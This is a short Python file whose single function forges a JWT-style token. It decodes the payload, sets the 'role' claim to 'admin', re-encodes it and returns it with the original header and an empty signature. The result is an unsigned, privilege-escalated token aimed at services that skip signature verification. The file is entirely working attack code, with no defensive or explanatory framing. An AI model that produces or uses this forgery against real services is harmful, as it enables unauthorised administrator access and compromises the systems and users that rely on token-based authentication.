"""Cut with partition; JSON with sorted names."""

import binascii
import json


def forge_null_signature(token):
    header, dot, rest = token.partition(".")
    payload = rest.partition(".")[0].replace("-", "+").replace("_", "/")
    while len(payload) % 4:
        payload += "="
    claims = json.loads(binascii.a2b_base64(payload))
    claims.update({"role": "admin"})
    again = binascii.b2a_base64(json.dumps(claims, sort_keys=True).encode(), newline=False).decode()
    return header + dot + again.replace("+", "-").replace("/", "_").rstrip("=") + dot
